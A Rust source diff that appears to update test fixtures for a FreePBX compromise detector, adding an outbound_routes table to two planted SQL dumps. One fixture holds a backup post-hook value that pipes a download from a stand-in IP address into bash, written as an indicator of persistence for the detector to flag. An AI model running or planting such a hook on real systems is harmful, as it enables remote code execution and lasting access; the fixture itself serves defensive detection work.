@@ -116,7 +116,7 @@ const SIGNS: &[Sign] = &[
         plant: |scratch| {
             dump(
                 scratch,
-                "CREATE TABLE `notifications` (\n  `module` varchar(24),\n  `id` varchar(24),\n  `display_text` varchar(255)\n);\nINSERT INTO `notifications` VALUES ('freepbx','FW_TAMPERED','You have 2 tampered files'),('core','NEWMAIL','All is well');\n",
+                "CREATE TABLE `notifications` (\n  `module` varchar(24),\n  `id` varchar(24),\n  `display_text` varchar(255)\n);\nINSERT INTO `notifications` VALUES ('freepbx','FW_TAMPERED','You have 2 tampered files'),('core','NEWMAIL','All is well');\nCREATE TABLE `outbound_routes` (\n  `route_id` int,\n  `name` varchar(40)\n);\nINSERT INTO `outbound_routes` VALUES (1,'out');\n",
             );
         },
         found: ("panel-warned-of-code", "changed code", "tampered files"),
@@ -125,7 +125,7 @@ const SIGNS: &[Sign] = &[
         plant: |scratch| {
             dump(
                 scratch,
-                "CREATE TABLE `backup_details` (\n  `backup_id` int,\n  `key` varchar(50),\n  `index` varchar(25),\n  `value` varchar(250)\n);\nINSERT INTO `backup_details` VALUES (1,'postbu_hook','','curl -s http://192.0.2.1/x | bash'),(1,'prebu_hook','',''),(1,'name','','nightly');\n",
+                "CREATE TABLE `backup_details` (\n  `backup_id` int,\n  `key` varchar(50),\n  `index` varchar(25),\n  `value` varchar(250)\n);\nINSERT INTO `backup_details` VALUES (1,'postbu_hook','','curl -s http://192.0.2.1/x | bash'),(1,'prebu_hook','',''),(1,'name','','nightly');\nCREATE TABLE `outbound_routes` (\n  `route_id` int,\n  `name` varchar(40)\n);\nINSERT INTO `outbound_routes` VALUES (1,'out');\n",
             );
         },
         found: ("persistence-backup-hook", "postbu_hook", "192.0.2.1"),
